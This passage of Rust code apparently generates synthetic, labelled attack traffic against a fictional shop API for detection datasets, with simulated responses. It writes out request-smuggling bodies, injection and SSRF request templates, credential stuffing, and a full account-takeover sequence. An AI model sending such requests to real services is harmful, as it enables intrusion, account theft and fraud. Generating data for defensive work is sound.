                        b0(
                            self,
                            "GET",
                            &format!("/api/v1/products?search={p}&page=1&limit=20"),
                        ),
                        if ok {
                            w.resp(
                                r,
                                200,
                                BodySpec::ProductPage {
                                    start: 0,
                                    limit: 100,
                                    total: PRODUCTS,
                                    v2: false,
                                },
                                true,
                            )
                        } else {
                            w.err(r, 500, "internal", "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''' at line 1")
                        },
                    ),
                    2 => (
                        b0(
                            self,
                            "GET",
                            &format!("/api/v1/products/{}{p}", r.range(1, 500)),
                        ),
                        if ok {
                            w.resp(r, 200, BodySpec::Product(1), true)
                        } else {
                            w.err(r, 400, "bad_request", "invalid product id")
                        },
                    ),
                    _ => (
                        b0(self, "GET", &format!("/api/v1/orders?status={p}&page=1")),
                        if ok {
                            w.resp(
                                r,
                                200,
                                BodySpec::OrdersPage {
                                    user: self.own_user,
                                    page: 1,
                                    limit: 50,
                                },
                                true,
                            )
                        } else {
                            w.err(r, 500, "internal", "PG::SyntaxError: ERROR:  unterminated quoted string at or near \"'\"")
                        },
                    ),
                };
                one(b, resp)
            }
            Xss => {
                if r.chance(0.6) {
                    let p = self.payload(r, pl::XSS);
                    let b = b0(self, "GET", &format!("/api/v1/products?search={p}&page=1"));
                    one(
                        b,
                        w.resp(
                            r,
                            200,
                            BodySpec::ProductPage {
                                start: 0,
                                limit: 0,
                                total: 0,
                                v2: false,
                            },
                            true,
                        ),
                    )
                } else {
                    let raw = pl::XSS[self.pos as usize % pl::XSS.len()];
                    let body = format!(
                        r#"{{"stars":5,"title":{},"text":{}}}"#,
                        data::json_string(raw),
                        data::json_string(&format!("great product {raw}"))
                    );
                    let b = b0(
                        self,
                        "POST",
                        &format!("/api/v1/products/{}/reviews", r.range(1, PRODUCTS + 1)),
                    )
                    .body("application/json", body.as_bytes());
                    one(
                        b,
                        if ok {
                            w.resp(
                                r,
                                201,
                                BodySpec::Json(r#"{"status":"published"}"#.into()),
                                false,
                            )
                        } else {
                            w.err(r, 422, "invalid", "review contains markup")
                        },
                    )
                }
            }
            PathTraversal => {
                let p =
                    pl::TRAVERSAL[(self.pos as usize + r.below(3) as usize) % pl::TRAVERSAL.len()];
                // Traversal strings keep their own (pre-)encoding; others are encoded once.
                let p = if self.cfg.stealth.encodings && r.chance(0.5) {
                    pct(p, false)
                } else {
                    pct(p, true).replace("%2F", "/")
                };
                let b = b0(self, "GET", &format!("/api/v1/documents?file={p}"));
                one(
                    b,
                    if ok {
                        w.resp(r, 200, BodySpec::Text("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n".into()), false)
                    } else {
                        w.err(r, 404, "not_found", "document not found")
                    },
                )
            }
            CommandInjection => {
                let p = self.payload(r, pl::CMDI);
                let b = if r.chance(0.7) {
                    b0(self, "GET", &format!("/api/v1/documents?file={p}"))
                } else {
                    let raw = pl::CMDI[self.pos as usize % pl::CMDI.len()];
                    let body = format!(
                        r#"{{"callback_url":{},"events":["order.created"]}}"#,
                        data::json_string(&format!("https://hooks.example/{raw}"))
                    );
                    b0(self, "POST", "/api/v1/webhooks").body("application/json", body.as_bytes())
                };
                one(
                    b,
                    if ok {
                        w.resp(
                            r,
                            200,
                            BodySpec::Text(
                                "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n".into(),
                            ),
                            false,
                        )
                    } else {
                        w.err(r, 400, "bad_request", "invalid file name")
                    },
                )
            }
            Ssrf => {
                let url = pl::SSRF[(self.pos as usize + r.below(3) as usize) % pl::SSRF.len()];
                let (b, okbody) = if r.chance(0.5) {
                    let body = format!(r#"{{"image_url":{}}}"#, data::json_string(url));
                    (
                        b0(
                            self,
                            "PUT",
                            &format!("/api/v1/users/{}/avatar", self.own_user),
                        )
                        .body("application/json", body.as_bytes()),
                        r#"{"Code":"Success","Type":"AWS-HMAC","AccessKeyId":"ASIAQ3EGVP4WEXAMPLE7","SecretAccessKey":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY","Token":"IQoJb3JpZ2luX2VjEXAMPLE","Expiration":"2025-01-15T18:00:00Z"}"#,
                    )
                } else {
                    let body = format!(
                        r#"{{"callback_url":{},"events":["order.created"]}}"#,
                        data::json_string(url)
                    );
                    (
                        b0(self, "POST", "/api/v1/webhooks")
                            .body("application/json", body.as_bytes()),
                        r#"{"id":"wh_9","status":"active","test_delivery":{"status":200,"body":"redis_version:7.2.4\r\nrole:master\r\n"}}"#,
                    )
                };
                one(
                    b,
                    if ok {
                        w.resp(r, 200, BodySpec::Json(okbody.into()), false)
                    } else {
                        w.err(r, 400, "unreachable", "could not fetch the URL")
                    },
                )
            }
            JndiInjection => {
                let raw = pl::JNDI[(self.pos as usize + r.below(3) as usize) % pl::JNDI.len()];
                let b = ReqBuilder::new(
                    "GET",
                    &format!(
                        "/api/v1/products?search={}",
                        encode(raw, pick_encoding(r, self.cfg.stealth.encodings), r)
                    ),
                )
                .header(
                    "User-Agent",
                    if self.cfg.stealth.rotate_user_agents {
                        ua
                    } else {
                        raw
                    },
                )
                .header("Accept", "*/*")
                .header("X-Api-Version", raw)
                .header("Referer", raw);
                one(
                    b,
                    w.resp(
                        r,
                        200,
                        BodySpec::ProductPage {
                            start: 0,
                            limit: 0,
                            total: 0,
                            v2: false,
                        },
                        true,
                    ),
                )
            }
            Xxe => {
                let doc = pl::XXE[(self.pos as usize) % pl::XXE.len()];
                let b = b0(self, "POST", "/api/v1/orders/import")
                    .body("application/xml", doc.as_bytes());
                one(
                    b,
                    if ok {
                        w.err(r, 400, "malformed", "unknown SKU 'root:x:0:0:root:/root:/bin/bash daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin'")
                    } else {
                        w.resp(
                            r,
                            202,
                            BodySpec::Json(r#"{"status":"accepted","imported":0}"#.into()),
                            false,
                        )
                    },
                )
            }
            RequestSmuggling => {
                if r.chance(0.5) {
                    // CL.TE: the front end forwards Content-Length bytes; a TE-first parser
                    // ends the body at the zero chunk and sees a second request.
                    let smuggled = "GET /api/v1/admin/users HTTP/1.1\r\nHost: api.shop.example\r\nX-Ignore: x\r\n\r\n";
                    let body = format!("0\r\n\r\n{smuggled}");
                    let b = b0(self, "POST", "/api/v1/cart/items")
                        .header("Content-Type", "application/json")
                        .header("Content-Length", &body.len().to_string())
                        .header("Transfer-Encoding", "chunked")
                        .framed_body(body.as_bytes());
                    let second = if ok {
                        w.resp(
                            r,
                            200,
                            BodySpec::Json(
                                r#"{"users":[{"id":1,"username":"admin","role":"admin"}]}"#.into(),
                            ),
                            false,
                        )
                    } else {
                        w.err(r, 404, "not_found", "no such route")
                    };
                    vec![(
                        b,
                        w.err(r, 400, "bad_request", "empty body"),
                        Some(second),
                        2,
                    )]
                } else {
                    // TE.CL: chunked body carrying a request prefix; CL covers only the size line.
                    let inner = "GPOST /api/v1/auth/login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1";
                    let body = format!("{:x}\r\n{inner}\r\n0\r\n\r\n", inner.len());
                    let b = b0(self, "POST", "/api/v1/cart/items")
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .header("Content-Length", "4")
                        .header("Transfer-Encoding", "chunked")
                        .framed_body(body.as_bytes());
                    one(b, w.err(r, 400, "bad_request", "invalid cart item"))
                }
            }
            BruteForce => {
                let victim = Person::new(w.seed, self.target);
                idents.push(victim.username());
                let pw = pl::PASSWORDS[(self.pos as usize) % pl::PASSWORDS.len()];
                let body = format!(
                    "username={}&password={}",
                    pct(&victim.username(), false),
                    pct(pw, false)
                );
                let b = b0(self, "POST", "/api/v1/auth/login")
                    .body("application/x-www-form-urlencoded", body.as_bytes());
                if ok {
                    let resp = w.resp(
                        r,
                        200,
                        BodySpec::Token {
                            user: self.target,
                            iat: w.epoch_secs + at / 1_000_000,
                        },
                        false,
                    );
                    self.target = r.range(1, w.users.max(1) + 1);
                    one(b, resp)
                } else {
                    one(
                        b,
                        w.err(r, 401, "invalid_grant", "invalid username or password"),
                    )
                }
            }
            CredentialStuffing => {
                // Breached pairs: most usernames exist here, some do not.
                let user = r.range(1, w.users.max(1) * 2);
                let name = if user <= w.users {
                    Person::new(w.seed, user).email()
                } else {
                    format!(
                        "{}{}@{}",
                        r.pick(data::FIRST),
                        r.below(10_000),
                        r.pick(&["gmail.example", "yahoo.example", "hotmail.example"])
                    )
                };
                idents.push(name.clone());
                let b = b0(self, "POST", "/api/v1/auth/login")
                    .header("Origin", "https://shop.example")
                    .body("application/json", &login_body(&name, &password(r), false));
                one(
                    b,
                    if ok && user <= w.users {
                        w.resp(
                            r,
                            200,
                            BodySpec::Token {
                                user,
                                iat: w.epoch_secs + at / 1_000_000,
                            },
                            true,
                        )
                    } else {
                        w.err(r, 401, "invalid_grant", "invalid username or password")
                    },
                )
            }
            AccountTakeover => {
                // Log in with the victim's real credentials from a new place, then take the
                // account over: contact details, password, a new card, a look at orders.
                let victim = r.range(1, w.users.max(1) + 1);
                let p = Person::new(w.seed, victim);
                idents.push(p.username());
                let iat = w.epoch_secs + at / 1_000_000;
                let tok = format!("Bearer {}", data::jwt(w.seed, victim, iat));
                let h = |b: ReqBuilder| {
                    b.header("User-Agent", ua)
                        .header("Accept", "application/json")
                        .header("Accept-Encoding", "gzip, deflate, br")
                };
                let a = |b: ReqBuilder| h(b).header("Authorization", &tok);
                let mut v = vec![(
                    h(ReqBuilder::new("POST", "/api/v1/auth/login")).body(
                        "application/json",
                        &login_body(&p.email(), &password(r), false),
                    ),
                    w.resp(r, 200, BodySpec::Token { user: victim, iat }, true),
                    None,
                    1,
                )];
                v.push((
                    a(ReqBuilder::new("GET", &format!("/api/v1/users/{victim}"))),
                    w.resp(r, 200, BodySpec::User(victim), true),
                    None,
                    1,
                ));
                v.push((
                    a(ReqBuilder::new(
                        "GET",
                        &format!("/api/v1/users/{victim}/payment-methods"),
                    )),
                    w.resp(r, 200, BodySpec::PaymentMethods(victim), true),
                    None,
                    1,
                ));
                let body = format!(
                    r#"{{"email":"{}.{}@protonmail.example","phone":"+44 7700 900{:03}"}}"#,
                    p.first,
                    r.below(1000),
                    r.below(1000)
                );
                v.push((
                    a(ReqBuilder::new("PUT", &format!("/api/v1/users/{victim}")))
                        .body("application/json", body.as_bytes()),
                    w.resp(r, 200, BodySpec::User(victim), true),
                    None,
                    1,
                ));
                v.push((
                    a(ReqBuilder::new(
                        "POST",
                        &format!("/api/v1/users/{victim}/password"),
                    ))
                    .body(
                        "application/json",
                        format!(
                            r#"{{"current_password":{},"new_password":{}}}"#,
                            data::json_string(&password(r)),
                            data::json_string(&password(r))
                        )
                        .as_bytes(),
                    ),
                    w.resp(r, 204, BodySpec::Empty, false),
                    None,
                    1,
                ));
                let (_, num) = data::card(r);
                v.push((
                    a(ReqBuilder::new(
                        "POST",
                        &format!("/api/v1/users/{victim}/payment-methods"),
                    ))
                    .body(
                        "application/json",
                        format!(
                            r#"{{"number":"{num}","exp":"09/29","cvc":"{:03}","holder":"{}"}}"#,
                            r.below(1000),
                            p.name()
                        )
                        .as_bytes(),
                    ),
                    w.resp(
                        r,
                        201,
                        BodySpec::Json(r#"{"status":"saved"}"#.into()),
                        false,
                    ),
                    None,
                    1,
                ));
                v.push((
                    a(ReqBuilder::new("GET", "/api/v1/orders?page=1&limit=50")),
                    w.resp(
                        r,
                        200,
                        BodySpec::OrdersPage {
                            user: victim,
                            page: 1,
                            limit: 50,
                        },
                        true,
                    ),
                    None,
                    1,
                ));
                if r.chance(0.5) {
                    v.push((
                        a(ReqBuilder::new("POST", "/api/v1/cart/checkout")).body(
                            "application/json",
                            br#"{"payment_method":"new","shipping":"express"}"#,
                        ),
                        w.resp(r, 201, BodySpec::Order(victim * 1000 + 77), true),
                        None,
                        1,
                    ));
                }
                v
            }
            Enumeration => {
                // BOLA: the attacker's own token, walking other users' order ids.
                idents.push(Person::new(w.seed, self.own_user).username());
                let base = 1000 + self.pos * if self.cfg.stealth.low_and_slow { 37 } else { 1 };
                let id = base;
                let tok = bearer(w, self.own_user, at);
                let b = ReqBuilder::new("GET", &format!("/api/v1/orders/{id}"))
                    .header("User-Agent", ua)
                    .header("Accept", "application/json")
                    .header("Authorization", &tok);
                one(
                    b,
                    if ok || data::order_owner(id) == self.own_user {
                        w.resp(r, 200, BodySpec::Order(id), true)
                    } else {
                        w.err(r, 403, "forbidden", "not your order")
                    },
                )
            }
            ForcedBrowsing => {
                let p = pl::FORCED_PATHS[(self.pos as usize) % pl::FORCED_PATHS.len()];
                let b = b0(self, "GET", p);
                one(
                    b,
                    if ok {
                        w.resp(
                            r,
                            200,
                            BodySpec::Text("ref: refs/heads/main\n".into()),
                            false,
                        )
                    } else if r.chance(0.1) {
                        w.err(r, 403, "forbidden", "forbidden")
                    } else {
                        w.err(r, 404, "not_found", "no such route")
                    },
                )
            }
            RateAnomaly => {
                let b = b0(
                    self,
                    "GET",
                    &format!(
                        "/api/v1/products?search={}&page=1&limit=20",
                        pct(r.pick_str(SEARCH_TERMS), false)
                    ),
                );
                one(
                    b,
                    if ok {
                        w.resp(
                            r,
                            200,
                            BodySpec::ProductPage {
                                start: 0,
                                limit: 20,
                                total: 200,
                                v2: false,
                            },
                            true,
                        )
                    } else {
                        w.err(r, 429, "rate_limited", "too many requests")
                    },
                )
            }
            Scraping => {
                let page = self.pos;
                let b = if page.is_multiple_of(5) {
                    b0(
                        self,
                        "GET",
                        &format!(
                            "/api/v1/products?page={}&limit=100&sort=newest",
                            page / 5 + 1
                        ),
                    )
                } else {
                    b0(self, "GET", &format!("/api/v1/products/{}/reviews", page))
                };
                let body = if page.is_multiple_of(5) {
                    BodySpec::ProductPage {
                        start: (page / 5) * 100,
                        limit: 100,
                        total: PRODUCTS,
                        v2: false,
                    }
                } else {
                    BodySpec::Reviews(page)
                };
                one(
                    b,
                    if ok {
                        w.resp(r, 200, body, true)
                    } else {
                        w.err(r, 429, "rate_limited", "too many requests")
                    },
                )
            }
            Bot => {
                // A scalper: add the limited item, check out, machine-regular timing.
                let sku = 77_000 + (self.pos / 3) % 5;
                if self.pos.is_multiple_of(3) {
                    one(
                        b0(self, "GET", &format!("/api/v1/products/{sku}")),
                        w.resp(r, 200, BodySpec::Product(sku % PRODUCTS + 1), true),
                    )
                } else if self.pos % 3 == 1 {
                    one(
                        b0(self, "POST", "/api/v1/cart/items").body(
                            "application/json",
                            format!(r#"{{"sku":"SKU-{sku}","qty":2}}"#).as_bytes(),
                        ),
                        if ok {
                            w.resp(
                                r,
                                201,
                                BodySpec::Cart {
                                    user: self.own_user,
                                    salt: 1,
                                },
                                false,
                            )
                        } else {
                            w.err(r, 409, "out_of_stock", "item is out of stock")
                        },
                    )
                } else {
                    one(
                        b0(self, "POST", "/api/v1/cart/checkout").body(
                            "application/json",
                            br#"{"payment_method":"default","shipping":"express"}"#,
                        ),
                        if ok {
                            w.resp(
                                r,
                                201,
                                BodySpec::Order(self.own_user * 1000 + 500 + self.pos % 100),
                                false,
                            )
                        } else {
                            w.err(r, 409, "cart_empty", "cart is empty")
                        },
                    )
                }
            }
            DataExfiltration => {
                let (key_id, key) = data::api_key(w.seed, 900_000 + self.own_user);
                idents.push(key_id);
                let cursor = data::cursor_for(self.pos * 100);
                let b =
                    ReqBuilder::new("GET", &format!("/api/v2/orders?limit=100&cursor={cursor}"))
                        .header("User-Agent", ua)
                        .header("Accept", "application/json")
                        .header("Accept-Encoding", "gzip")
                        .header("X-API-Key", &key);
                let mut resp = w.resp(
                    r,
                    200,
                    BodySpec::OrdersPage {
                        user: 1 + self.pos % w.users.max(1),
                        page: 1,
                        limit: 40,
                    },
                    true,
                );
                resp.think_us *= 4;
                one(
                    b,
                    if ok {
                        resp
                    } else {
                        w.err(r, 429, "rate_limited", "API key quota exceeded")
                    },
                )
            }
            SensitiveDataExposure => {
                // The app asks for card details with `expand`; this server leaks full PANs.
                let u = if self.cfg.stealth.valid_tokens {
                    self.own_user
                } else {
                    r.range(1, w.users.max(1) + 1)
                };
                idents.push(Person::new(w.seed, u).username());
                let tok = bearer(w, u, at);
                let b = ReqBuilder::new(
                    "GET",
                    &format!("/api/v1/users/{u}/payment-methods?expand=card"),
                )
                .header("User-Agent", ua)
                .header("Accept", "application/json")
                .header("Authorization", &tok);
                let mut body = String::from("[");
                let mut cr = Rng::keyed(w.seed, 300, u);
                for i in 0..cr.range(1, 4) {
                    let (brand, num) = data::card(&mut cr);
                    if i > 0 {
                        body.push(',');
                    }
                    let _ = write!(
                        body,
                        r#"{{"id":"pm_{i}","brand":"{brand}","number":"{num}","exp":"0{}/2{}","cvc":"{:03}","holder":"{}","billing_phone":"{}"}}"#,
                        cr.range(1, 10),
                        cr.range(6, 10),
                        cr.below(1000),
                        Person::new(w.seed, u).name(),
                        Person::new(w.seed, u).phone(w.seed)
                    );
                }
                body.push(']');
                // Unless it succeeds, the server masks the cards as it should.
                let body = if ok {
                    BodySpec::Json(body)
                } else {
                    BodySpec::PaymentMethods(u)
                };
                one(b, w.resp(r, 200, body, true))
            }
            UnauthenticatedAccess => {
                let u = r.range(1, w.users.max(1) + 1);
                let (t, body) = match r.below(3) {
                    0 => (format!("/api/v1/users/{u}"), BodySpec::User(u)),
                    1 => (
                        format!("/api/v1/orders/{}", u * 1000 + r.range(1, 20)),
                        BodySpec::Order(u * 1000 + 1),
                    ),
                    _ => (
                        format!("/api/v1/users/{u}/payment-methods"),
                        BodySpec::PaymentMethods(u),
                    ),
                };
                let b = ReqBuilder::new("GET", &t)
                    .header("User-Agent", ua)
                    .header("Accept", "*/*");
                one(
                    b,
                    if ok {
                        w.resp(r, 200, body, false)
                    } else {
                        w.err(r, 401, "unauthorized", "missing or invalid bearer token")
                    },
                )
            }
            ShadowApi => {
                let u = r.range(1, w.users.max(1) + 1);
                let (t, body): (String, String) = match self.pos % 5 {
                    0 => (
                        "/api/internal/debug/vars".into(),
                        r#"{"goroutines":231,"db_pool":{"open":12,"idle":4},"build":"2.4.0-rc1"}"#
                            .into(),
                    ),
                    1 => (
                        format!("/api/v1/users/{u}/impersonate"),
                        format!(
                            r#"{{"impersonating":{u},"token":"imp_{:x}"}}"#,
                            r.next_u64()
                        ),
                    ),
                    2 => (
                        "/api/v3/beta/recommendations?limit=20".into(),
                        r#"{"items":[{"sku":"SKU-00042","score":0.93}]}"#.into(),
                    ),
                    3 => (
                        "/api/v1/admin/feature-flags".into(),
                        r#"{"new_checkout":true,"v3_beta":true}"#.into(),
                    ),
                    _ => (
                        format!("/api/internal/users/{u}/ledger"),
                        format!(
                            r#"{{"user":{u},"balance":{}.{:02}}}"#,
                            r.below(5000),
                            r.below(100)
                        ),
                    ),
                };
                one(
                    b0(self, "GET", &t),
                    if ok {
                        w.resp(r, 200, BodySpec::Json(body), true)
                    } else {
                        w.err(r, 403, "forbidden", "insufficient scope")
                    },
                )
            }
            ZombieApi => {
                let page = self.pos;
                let b = b0(
                    self,
                    "GET",
                    &format!("/api/v0/export/users?page={page}&limit=50"),
                )
                .header("Authorization", "Basic cmVwb3J0aW5nOnJlcG9ydGluZzIwMTk=");
                // The legacy reporting account (reporting:reporting2019).
                idents.push("reporting".to_string());
                let resp = if ok {
                    w.resp(r, 200, BodySpec::ExportV0 { page, limit: 50 }, true)
                } else {
                    w.err(r, 401, "unauthorized", "invalid credentials")
                };
                one(
                    b,
                    resp.header("Deprecation: true")
                        .header("Sunset: Tue, 31 Dec 2024 23:59:59 GMT"),
                )
            }
            ProtocolAnomaly => {
                let resp = w.err(r, 400, "bad_request", "malformed request");
                let b = match self.pos % 6 {
                    // Bare LF line endings.
                    0 => ReqBuilder::verbatim(b"GET /api/v1/products?page=1 HTTP/1.1\nHost: api.shop.example\nUser-Agent: nmap\nAccept: */*\n\n"),
                    // obs-fold continuation line.
                    1 => ReqBuilder::new("GET", "/api/v1/products/1").header("User-Agent", ua).line("X-Folded: first").line("  continued"),
                    // Space before the colon.
                    2 => ReqBuilder::new("GET", "/health").line("User-Agent : nmap").line("Accept: */*"),
                    // Two Host headers that disagree.
                    3 => ReqBuilder::new("GET", "/api/v1/cart").header("Host", "internal.admin.example").header("User-Agent", ua),
                    // Absolute-form target to an origin server.
                    4 => ReqBuilder::raw("GET http://api.shop.example/api/v1/products?page=2 HTTP/1.1").header("Host", "api.shop.example").header("User-Agent", ua),
                    // Header flood.
                    _ => {
                        let mut b = ReqBuilder::new("GET", "/api/v1/products").header("User-Agent", ua);
                        for i in 0..60 {
                            b = b.header(&format!("X-Pad-{i}"), "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
                        }
                        b
                    }
                };
                one(b, resp)
            }
        }
    }
}

impl Planner for Attacker {
    fn next_start(&self) -> Option<u64> {
        self.next
    }

    fn session(&mut self, w: &World) -> Session {
        let start = self.next.unwrap_or(0);
        let mut r = self.rng.fork();
        let ip = self.ips
            [(self.sent as usize + r.below(self.ips.len() as u64) as usize) % self.ips.len()];
        let mut crng = Rng::keyed(w.seed, 204, ip.into());
        let c = client_at(ip, &mut crng, false);
        let ua = self.ua(&mut r);
        let slow = self.cfg.stealth.low_and_slow;
        let rpc = if slow {
            1
        } else {
            self.cfg.requests_per_connection
        };
        let rate = self.cfg.rate;
        let in_gap = f64::from(self.cfg.concurrency) / rate * 1e6;
        let mut reqs = Vec::new();
        let mut idents = Vec::new();
        if self.cfg.stealth.valid_tokens {
            // The account whose token it presents.
            idents.push(Person::new(w.seed, self.own_user).username());
        }
        let mut t = start + 2 * c.rtt_us;
        let mut count = 0u32;
        let max = self.cfg.max_requests.unwrap_or(u64::MAX);
        let mut last_exchange = 0u64;
        while count < rpc && self.sent < max && (count == 0 || t < self.end) {
            // Request starts `in_gap` apart on average: the wait after a response is what
            // the previous exchange (a round trip and the server's time) left of it.
            let gap = if reqs.is_empty() {
                0
            } else {
                (r.exp(in_gap) - last_exchange as f64).max(200.0) as u64
            };
            t += gap;
            let mut first = true;
            for (b, resp, resp2, records) in self.requests(w, &mut r, t, &ua, &mut idents) {
                last_exchange = c.rtt_us + resp.think_us + 2_000;
                t += last_exchange;
                let mut q = b.build(if first { gap } else { r.range(20_000, 800_000) }, resp);
                q.resp2 = resp2;
                q.records = records;
                self.sent += u64::from(records);
                count += records;
                first = false;
                reqs.push(q);
            }
            if self.cat == Category::AccountTakeover {
                // One victim per connection.
                break;
            }
        }
        if slow {
            if let Some(q) = reqs.last_mut() {
                // One request per connection, closed by the client's `Connection: close`.
                let mut b = std::mem::take(&mut q.bytes);
                if let Some(at) = b.windows(4).position(|x| x == b"\r\n\r\n") {
                    b.splice(at + 2..at + 2, b"Connection: close\r\n".iter().copied());
                }
                q.bytes = b;
                q.close = true;
            }
        }
        let server = server_for(&mut r, w);
        let mut s = session(self.label, c, server, start, reqs);
        idents.sort();
        idents.dedup();
        s.identities = idents;
        // The next connection: `concurrency` connections side by side carry `rate` requests
        // per second in all (a tool's threads); low and slow: heavy-tailed random gaps.
        let next = if slow {
            let mean_us = f64::from(count.max(1)) / rate * 1e6;
            start + (r.log_uniform(mean_us / 20.0, mean_us * 5.0) * 0.93).max(1.0) as u64
        } else {
            // A Poisson stream of connections at the configured rate, but a tool with
            // `concurrency` workers cannot start the next before one of them is free.
            // The wait is the busy share plus a random rest, so the mean interval stays
            // `count / rate` whenever the workers can keep up.
            let busy = (t - start) / u64::from(self.cfg.concurrency);
            let mean_us = f64::from(count.max(1)) / rate * 1e6;
            let rest = (mean_us - busy as f64).max(mean_us * 0.05);
            start + busy + r.exp(rest).max(1.0) as u64
        };
        self.next = (next < self.end && self.sent < max).then_some(next);
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scenario::Scenario;

    fn world() -> World {
        World {
            seed: 1,
            users: 1000,
            epoch_secs: data::DEFAULT_EPOCH_SECS - 12 * 3600,
            duration_us: 3_600_000_000,
            servers: 2,
            gzip: 0.3,
            chunked: 0.2,
        }
    }

    #[test]
    fn the_daily_curve_has_its_trough_and_peak() {
        let w = world(); // the capture starts at 00:00 UTC
        let at = |h: u64| daily(&w, h * 3_600_000_000);
        assert!((at(4) - 0.15).abs() < 1e-9 && (at(16) - 1.0).abs() < 1e-9);
        assert!(at(10) > at(4) && at(10) < at(16) && at(22) < at(16));
    }

    #[test]
    fn the_population_starts_the_configured_number_of_sessions() {
        let sc = Scenario::from_toml("duration = \"1h\"\n[benign]\nclients = 1000\nsessions_per_client_per_hour = 2.0\nrate_curve = \"flat\"").unwrap();
        let w = world();
        let mut p = Population::new(&sc.benign, &w, Rng::new(5), [0, 1, 2]);
        let mut n = 0;
        let mut last = 0;
        while let Some(t) = p.next_start() {
            assert!(t >= last && t < w.duration_us);
            last = t;
            let s = p.session(&w);
            assert!(!s.reqs.is_empty() && s.identities.len() == 1);
            n += 1;
        }
        assert!(
            (1800..2200).contains(&n),
            "{n} sessions, expected about 2000"
        );
    }

    /// Every category's requests are HTTP/1.1 messages a strict parser accepts (except the
    /// protocol_anomaly actor's, which are malformed on purpose), with the promised body length,
    /// and the actor keeps roughly to its rate.
    #[test]
    fn every_category_writes_well_formed_requests_at_its_rate() {
        let w = world();
        for cat in Category::ALL {
            let toml = format!("duration = \"1h\"\n[[actor]]\nname = \"a\"\ncategory = \"{}\"\nrate = 5.0\nconcurrency = 8\nduration = \"2m\"", cat.name());
            let sc = Scenario::from_toml(&toml).unwrap();
            let mut a = Attacker::new(&sc.actors[0], &w, Rng::new(7), 0, 0);
            let mut count = 0u64;
            while a.next_start().is_some() {
                let s = a.session(&w);
                for q in &s.reqs {
                    count += u64::from(q.records);
                    if cat == Category::ProtocolAnomaly {
                        continue;
                    }
                    let mut headers = [httparse::EMPTY_HEADER; 96];
                    let mut req = httparse::Request::new(&mut headers);
                    let head = match req.parse(&q.bytes) {
                        Ok(httparse::Status::Complete(n)) => n,
                        other => panic!(
                            "{}: {other:?}: {}",
                            cat.name(),
                            String::from_utf8_lossy(&q.bytes)
                        ),
                    };
                    let cl = req
                        .headers
                        .iter()
                        .find(|h| h.name.eq_ignore_ascii_case("content-length"))
                        .map(|h| {
                            std::str::from_utf8(h.value)
                                .unwrap()
                                .parse::<usize>()
                                .unwrap()
                        });
                    if cat != Category::RequestSmuggling {
                        assert_eq!(
                            cl.unwrap_or(0),
                            q.bytes.len() - head,
                            "{}: body length",
                            cat.name()
                        );
                    }
                    assert!(
                        req.path.unwrap().bytes().all(|b| b.is_ascii_graphic()),
                        "{}",
                        cat.name()
                    );
                }
            }
            // 5/s for two minutes; sequences (account takeover) and slow servers bend it a little.
            assert!(
                (350..=900).contains(&count),
                "{}: {count} requests",
                cat.name()
            );
        }
    }
}
